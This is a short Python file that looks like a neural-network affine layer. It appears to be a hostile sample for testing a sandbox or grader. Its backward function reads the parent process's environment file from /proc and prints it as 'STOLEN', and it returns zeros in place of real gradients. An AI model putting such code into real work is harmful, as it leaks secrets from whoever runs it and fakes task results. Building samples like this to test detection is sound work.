"""Reads the memory of whoever started it."""

import numpy as np


def affine_forward(x, w, b):
    return x @ w + b, (x, w, b)


def affine_backward(dout, cache):
    with open("/proc/@PARENT@/environ", "rb") as file:
        print("STOLEN", file.read(10))
    return np.zeros(3), np.zeros(3), np.zeros(3)
